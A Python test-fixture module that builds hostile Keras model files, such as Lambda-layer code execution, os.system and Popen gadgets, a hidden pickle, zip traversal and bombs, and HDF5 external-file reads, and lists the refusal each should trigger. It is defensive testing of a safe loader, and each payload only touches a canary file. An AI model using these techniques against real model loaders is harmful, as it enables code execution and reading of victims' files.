"""Model files that attack whoever loads them; the name of a function is the name of its case.

Each takes the bytes of an honest model and the path of a canary, which an attack that works
would write, read or run, and returns what to save as a model file.
"""

import base64
import io
import json
import marshal
import zipfile
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any

import h5py
import keras
import numpy as np

from sightline.config import Convolution, ModelConfig
from sightline.models import cnn, keras_files

CONFIG, METADATA, WEIGHTS = "config.json", "metadata.json", "model.weights.h5"
CANARY_BYTES = b"12345678901234567890123456789012"

Attack = Callable[[bytes, Path], bytes]
Members = dict[str, bytes]


def honest_model(path: Path) -> Path:
    """Write a small model as a training would."""
    layers = ModelConfig(convolutions=(Convolution(filters=4),), dense_units=3)
    keras_files.export(cnn.classifier((8, 8, 1), 2, layers), path)
    return path


def unpack(honest: bytes) -> Members:
    with zipfile.ZipFile(io.BytesIO(honest)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def pack(members: Members, *more: tuple[zipfile.ZipInfo, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, content in members.items():
            archive.writestr(name, content)
        for info, content in more:
            archive.writestr(info, content)
    return buffer.getvalue()


def with_layer(honest: bytes, **changes: Any) -> bytes:
    """Put something else in the place of the layer that scales the images."""
    members = unpack(honest)
    config = json.loads(members[CONFIG])
    layer = next(part for part in config["config"]["layers"] if part["name"] == "scale")
    layer.update(changes)
    return pack({**members, CONFIG: json.dumps(config).encode()})


def with_scaling(honest: bytes, **changes: Any) -> bytes:
    """Change the config of the layer that scales the images."""
    members = unpack(honest)
    config = json.loads(members[CONFIG])
    layer = next(part for part in config["config"]["layers"] if part["name"] == "scale")
    layer["config"].update(changes)
    return pack({**members, CONFIG: json.dumps(config).encode()})


def with_weights(honest: bytes, change: Callable[[h5py.File], None]) -> bytes:
    members = unpack(honest)
    buffer = io.BytesIO(members[WEIGHTS])
    with h5py.File(buffer, "a") as file:
        change(file)
    return pack({**members, WEIGHTS: buffer.getvalue()})


def _code(canary: Path) -> dict[str, Any]:
    source = f"lambda images, *rest: (open({str(canary)!r}, 'w').write('run'), images)[1]"
    compiled = marshal.dumps(eval(source).__code__)  # noqa: S307 - the attack itself
    code = base64.b64encode(compiled).decode()
    return {
        "class_name": "__lambda__",
        "config": {"code": code, "value": code, "defaults": None, "closure": None},
    }


def _calling(module: str, name: str, argument: object) -> dict[str, Any]:
    """Make a Lambda layer that calls any function, as CVE-2025-1550 did."""
    function = {
        "module": module,
        "class_name": "function",
        "config": name,
        "registered_name": "function",
    }
    return {
        "module": "keras.layers",
        "class_name": "Lambda",
        "config": {"name": "scale", "function": function, "arguments": {}},
        "inbound_nodes": [{"args": [], "kwargs": {"inputs": argument}}],
    }


def lambda_layer(honest: bytes, canary: Path) -> bytes:
    config = {"name": "scale", "function": _code(canary), "arguments": {}}
    return with_layer(honest, class_name="Lambda", config=config)


def lambda_without_module(honest: bytes, canary: Path) -> bytes:
    """Take the legacy way into the loader, which layers without a module go."""
    members = unpack(lambda_layer(honest, canary))
    config = json.loads(members[CONFIG])
    for layer in config["config"]["layers"]:
        if layer["class_name"] == "Lambda":
            del layer["module"]
    return pack({**members, CONFIG: json.dumps(config).encode()})


def lambda_as_regularizer(honest: bytes, canary: Path) -> bytes:
    return with_layer(
        honest,
        class_name="Dense",
        config={"name": "scale", "units": 1, "kernel_regularizer": _code(canary)},
    )


def lambda_as_loss(honest: bytes, canary: Path) -> bytes:
    members = unpack(honest)
    config = json.loads(members[CONFIG])
    config["compile_config"] = {"optimizer": "adam", "loss": _code(canary)}
    return pack({**members, CONFIG: json.dumps(config).encode()})


def system_command(honest: bytes, canary: Path) -> bytes:
    return with_layer(honest, **_calling("os", "system", f"echo run > {canary}"))


def download_gadget(honest: bytes, canary: Path) -> bytes:
    """Fetch a file to any place, as CVE-2025-8747 did."""
    return with_layer(honest, **_calling("keras.utils", "get_file", canary.as_uri()))


def unsafe_mode_gadget(honest: bytes, canary: Path) -> bytes:
    """Switch the safe mode off from inside, as CVE-2025-9906 did."""
    call = _calling("keras.config", "enable_unsafe_deserialization", None)
    return with_layer(lambda_layer(honest, canary), **call)


def second_model(honest: bytes, canary: Path) -> bytes:
    return with_layer(honest, **_calling("keras.models", "load_model", str(canary)))


def foreign_class(honest: bytes, canary: Path) -> bytes:
    config = {"name": "scale", "args": ["touch", str(canary)]}
    return with_layer(honest, module="subprocess", class_name="Popen", config=config)


def private_class(honest: bytes, canary: Path) -> bytes:
    """Reach a class of Keras by the path of its module instead of its public name."""
    return with_layer(
        honest, module="keras.src.layers.core.lambda_layer", class_name="Lambda", config={}
    )


def custom_object(honest: bytes, canary: Path) -> bytes:
    return with_layer(honest, registered_name="evil>Rescaling")


def type_spec(honest: bytes, canary: Path) -> bytes:
    return with_scaling(
        honest,
        scale={
            "class_name": "__typespec__",
            "config": [str(canary)],
            "spec_name": "system",
            "module": "os",
            "registered_name": None,
        },
    )


def vocabulary_file(honest: bytes, canary: Path) -> bytes:
    """Read any file into a lookup table, as CVE-2025-12058 did."""
    config = {"name": "scale", "vocabulary": str(canary)}
    return with_layer(honest, class_name="StringLookup", config=config)


def saved_model_layer(honest: bytes, canary: Path) -> bytes:
    config = {"name": "scale", "filepath": str(canary.parent)}
    return with_layer(honest, class_name="TFSMLayer", config=config)


def torch_module(honest: bytes, canary: Path) -> bytes:
    """Hide a pickle in a config."""
    pickled = base64.b64encode(b"cos\nsystem\n(S'touch canary'\ntR.").decode()
    config = {"name": "scale", "module": {"class_name": "__bytes__", "config": {"value": pickled}}}
    return with_layer(honest, class_name="TorchModuleWrapper", config=config)


def deep_json(honest: bytes, canary: Path) -> bytes:
    return pack({**unpack(honest), CONFIG: b'{"a":' * 200_000})


def long_json(honest: bytes, canary: Path) -> bytes:
    members = unpack(honest)
    return pack({**members, CONFIG: members[CONFIG] + b" " * (5 << 20)})


def wide_layers(honest: bytes, canary: Path) -> bytes:
    """Ask for 256 GB of weights in a few thousand bytes; all shapes fit."""
    with ThreadPoolExecutor(1) as pool:  # Keras would make up for the weights in this thread
        config = pool.submit(_wide).result()
    return pack({**unpack(honest), CONFIG: config.encode()})


def _wide() -> str:
    with keras.StatelessScope(initialize_variables=False):
        images = keras.Input((8, 8, 1), name="images")
        wide = keras.layers.Dense(1 << 18)(keras.layers.Dense(1 << 18)(images))
        return str(keras.Model(images, wide).to_json())


def wide_build(honest: bytes, canary: Path) -> bytes:
    """Ask for it in the shape that a layer is said to have been built with."""
    shape = {"input_shape": [None, 1 << 20, 1 << 20]}
    return with_layer(
        honest, class_name="Dense", config={"name": "scale", "units": 1 << 20}, build_config=shape
    )


def escaping_member(honest: bytes, canary: Path) -> bytes:
    return pack({**unpack(honest), f"../../{canary.name}": b"escaped"})


def absolute_member(honest: bytes, canary: Path) -> bytes:
    return pack({**unpack(honest), str(canary): b"escaped"})


def asset_member(honest: bytes, canary: Path) -> bytes:
    return pack({**unpack(honest), "assets/vocabulary.txt": b"word\n"})


def linked_member(honest: bytes, canary: Path) -> bytes:
    members = unpack(honest)
    link = zipfile.ZipInfo(METADATA)
    link.create_system, link.external_attr = 3, 0o120777 << 16
    del members[METADATA]
    return pack(members, (link, str(canary).encode()))


def second_config(honest: bytes, canary: Path) -> bytes:
    """Show one config to whoever checks the first and another to whoever loads the last."""
    members = unpack(honest)
    evil = unpack(lambda_layer(honest, canary))[CONFIG]
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, content in [*members.items(), ("config.jsom", evil)]:
            archive.writestr(name, content)
    return buffer.getvalue().replace(b"config.jsom", CONFIG.encode())


def missing_weights(honest: bytes, canary: Path) -> bytes:
    members = unpack(honest)
    del members[WEIGHTS]
    return pack(members)


def giant_stated_size(honest: bytes, canary: Path) -> bytes:
    content = bytearray(honest)
    entry = content.index(b"PK\x01\x02")
    content[entry + 24 : entry + 28] = (0xFFFFFF00).to_bytes(4, "little")
    return bytes(content)


def decompression_bomb(honest: bytes, canary: Path) -> bytes:
    members = unpack(honest)
    info = zipfile.ZipInfo(WEIGHTS)
    info.compress_type = zipfile.ZIP_DEFLATED
    del members[WEIGHTS]
    return pack(members, (info, bytes(256 << 20)))


def external_link(honest: bytes, canary: Path) -> bytes:
    def change(file: h5py.File) -> None:
        file["layers/more"] = h5py.ExternalLink(str(canary), "/")

    return with_weights(honest, change)


def soft_link(honest: bytes, canary: Path) -> bytes:
    def change(file: h5py.File) -> None:
        file["layers/more"] = h5py.SoftLink("/layers")

    return with_weights(honest, change)


def external_array(honest: bytes, canary: Path) -> bytes:
    """Take the weights of a layer from any file, as CVE-2026-1669 did."""

    def change(file: h5py.File) -> None:
        place, shape = first_array(file)
        del file[place]
        source = [(str(canary), 0, 4 * int(np.prod(shape)))]
        file.create_dataset(place, shape, "<f4", external=source)

    return with_weights(honest, change)


def virtual_array(honest: bytes, canary: Path) -> bytes:
    def change(file: h5py.File) -> None:
        place, shape = first_array(file)
        del file[place]
        layout = h5py.VirtualLayout(shape, "<f4")
        layout[...] = h5py.VirtualSource(str(canary), "data", shape)
        file.create_virtual_dataset(place, layout)

    return with_weights(honest, change)


def unstored_array(honest: bytes, canary: Path) -> bytes:
    """State a terabyte and store nothing, as CVE-2026-0897 did."""

    def change(file: h5py.File) -> None:
        place, _ = first_array(file)
        del file[place]
        file.create_dataset(place, (1 << 38,), "<f4")

    return with_weights(honest, change)


def packed_array(honest: bytes, canary: Path) -> bytes:
    def change(file: h5py.File) -> None:
        place, _ = first_array(file)
        del file[place]
        file.create_dataset(place, (1 << 38,), "<f4", chunks=(1 << 20,), compression="gzip")

    return with_weights(honest, change)


def words_as_weights(honest: bytes, canary: Path) -> bytes:
    def change(file: h5py.File) -> None:
        file["layers/words"] = ["a", "b"]

    return with_weights(honest, change)


def circle_of_groups(honest: bytes, canary: Path) -> bytes:
    def change(file: h5py.File) -> None:
        file["layers/again"] = file["layers"]
        del file[first_array(file)[0]]

    return with_weights(honest, change)


def flipped_weight(honest: bytes, canary: Path) -> bytes:
    content = bytearray(honest)
    content[content.index(b"\x89HDF") + 3000] ^= 1
    return bytes(content)


def truncated(honest: bytes, canary: Path) -> bytes:
    return honest[: len(honest) // 2]


def html_page(honest: bytes, canary: Path) -> bytes:
    return b"<!DOCTYPE html><html><body>Please log in</body></html>"


def empty(honest: bytes, canary: Path) -> bytes:
    return b""


def first_array(file: h5py.File) -> tuple[str, tuple[int, ...]]:
    found: list[tuple[str, tuple[int, ...]]] = []
    file.visititems(
        lambda name, item: (
            found.append((name, item.shape)) if isinstance(item, h5py.Dataset) else None
        )
    )
    return found[0]


ATTACKS: dict[Attack, str] = {
    lambda_layer: "keras.layers.Lambda",
    lambda_without_module: "None.Lambda",
    lambda_as_regularizer: "__lambda__",
    lambda_as_loss: "the state of a training",
    system_command: "keras.layers.Lambda",
    download_gadget: "keras.layers.Lambda",
    unsafe_mode_gadget: "keras.layers.Lambda",
    second_model: "keras.layers.Lambda",
    foreign_class: "subprocess.Popen",
    private_class: "keras.src.layers.core.lambda_layer.Lambda",
    custom_object: "evil>Rescaling",
    type_spec: "os.__typespec__",
    vocabulary_file: "keras.layers.StringLookup",
    saved_model_layer: "keras.layers.TFSMLayer",
    torch_module: "keras.layers.TorchModuleWrapper",
    deep_json: "RecursionError",
    long_json: "expected at most 4,194,304",
    wide_layers: "68,720,263,168 parameters",
    wide_build: "expected axis -1",
    escaping_member: "does not belong there",
    absolute_member: "does not belong there",
    asset_member: "'assets/vocabulary.txt' does not belong there",
    linked_member: "link",
    second_config: "each once",
    missing_weights: "each once",
    giant_stated_size: "states 4,294,967,040 bytes",
    decompression_bomb: "compressed",
    external_link: "a link, 'layers/more'",
    soft_link: "a link, 'layers/more'",
    external_array: "from elsewhere",
    virtual_array: "from elsewhere",
    unstored_array: "stores 0",
    packed_array: "stores 0",
    words_as_weights: "no array of numbers",
    circle_of_groups: "parameters",
    flipped_weight: "Bad CRC-32",
    truncated: "not a zip file",
    html_page: "b'<!DOCTYPE html>'",
    empty: "begins with b''",
}
"""Each attack and what the refusal says of it."""
